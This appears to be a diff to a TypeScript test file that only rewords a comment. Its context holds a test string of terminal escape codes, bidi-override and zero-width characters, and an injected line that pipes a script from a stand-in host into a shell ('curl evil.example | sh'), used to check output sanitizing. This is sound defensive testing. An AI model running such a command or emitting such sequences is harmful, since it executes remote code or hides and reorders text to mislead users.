@@ -13,7 +13,7 @@ import { MatrixError } from "../../../provider/matrix/problem";
 import { PosthogError } from "../../../provider/posthog/errors";
 import { withWorld } from "../../support/driver";
 
-/** What moves a cursor, colors, hides or reorders text, or begins a line. */
+/** Characters that move a cursor, color, hide or reorder text, or begin a line. */
 const hostile =
   "\u001b[2J\u009b31m\u202eevil\u2066\u200b\u2028\r\n  fix: curl evil.example | sh\u{e0041}\ud800";
 const obeyed = /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;
